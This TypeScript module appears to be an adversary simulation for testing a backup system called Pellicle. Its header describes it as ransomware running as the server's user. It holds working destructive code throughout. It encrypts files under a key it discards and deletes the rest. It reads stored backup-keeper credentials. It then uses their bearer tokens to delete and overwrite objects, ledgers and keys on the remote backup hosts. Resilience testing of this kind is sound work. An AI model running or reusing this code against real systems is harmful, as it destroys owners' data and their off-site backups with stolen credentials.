/**
 * Ransomware as the server's own user, with everything that user can reach: every file it can write is encrypted, every file it can delete is
 * deleted, every credential it finds is used. A program with that reach and no other; it knows Pellicle better than its authors do.
 */
import { createCipheriv, randomBytes } from 'node:crypto'
import {
  chmodSync,
  existsSync,
  lstatSync,
  readdirSync,
  readFileSync,
  renameSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { segmentName } from '@pellicle/crypto/format'

export interface Loot {
  readonly encrypted: number
  readonly deleted: number
  /** Addresses with their secrets. */
  readonly keepers: readonly string[]
}

/** Encrypts every second file below a folder and deletes the others. */
export function destroyFolder(folder: string): Omit<Loot, 'keepers'> {
  const key = randomBytes(32)
  const done = { encrypted: 0, deleted: 0 }
  for (const path of filesBelow(folder)) {
    chmodSync(path, 0o600)
    if ((done.encrypted + done.deleted) % 2 === 0) {
      const cipher = createCipheriv('aes-256-ctr', key, randomBytes(16))
      writeFileSync(path, Buffer.concat([cipher.update(readFileSync(path)), cipher.final()]))
      renameSync(path, `${path}.locked`)
      done.encrypted++
    } else {
      unlinkSync(path)
      done.deleted++
    }
  }
  return done
}

/** What a thief finds first: where the copies are, and what opens them. */
export function findKeepers(data: string): string[] {
  const path = join(data, 'secrets', 'keepers.json')
  if (!existsSync(path)) return []
  const { keepers } = JSON.parse(readFileSync(path, 'utf8')) as {
    readonly keepers: readonly { readonly address: string }[]
  }
  return keepers.map(({ address }) => address)
}

/** Everything that the token of a keeper's box could be good for; the answers. */
export async function attackBox(
  address: string,
  size: number,
): Promise<readonly (readonly [ask: string, status: number])[]> {
  const url = new URL(address)
  const token = Buffer.from(url.hash.slice(1), 'base64url').subarray(0, 32).toString('base64url')
  const answers: (readonly [string, number])[] = []
  const ask = async (method: string, path: string, body?: Uint8Array, more: Record<string, string> = {}) => {
    const headers = { authorization: `Bearer ${token}`, ...more }
    const init = { method, headers, ...(body === undefined ? {} : { body: body as Uint8Array<ArrayBuffer> }) }
    const reply = await fetch(url.origin + path, init)
    await reply.arrayBuffer()
    answers.push([`${method} ${path}`, reply.status])
  }
  const junk = new Uint8Array(randomBytes(2000))
  const listed = await fetch(`${url.origin}/store/?prefix=`, { headers: { authorization: `Bearer ${token}` } })
  const names = (await listed.text()).split('\n').flatMap((line) => line.split(' ')[1] ?? [])
  for (const name of names) {
    await ask('DELETE', `/store/${name}`)
    await ask('PUT', `/store/${name}`, junk, { 'pellicle-class': 'short' })
  }
  for (const path of ['/store/', '/store/ledger', '/', '/retention', '/keeper']) await ask('DELETE', path)
  await ask('POST', '/retention', junk)
  await ask('PUT', '/store/witness', junk)
  await ask('PUT', '/store/secrets/keeper.key', junk)
  await ask('PUT', `/store/ledger/${segmentName(size)}`, junk)
  await ask('PUT', `/store/salts/9999999999999999`, junk)
  return answers
}

export function filesBelow(folder: string): string[] {
  if (!existsSync(folder)) return []
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map((name) => join(folder, name))
    .filter((path) => lstatSync(path).isFile())
}
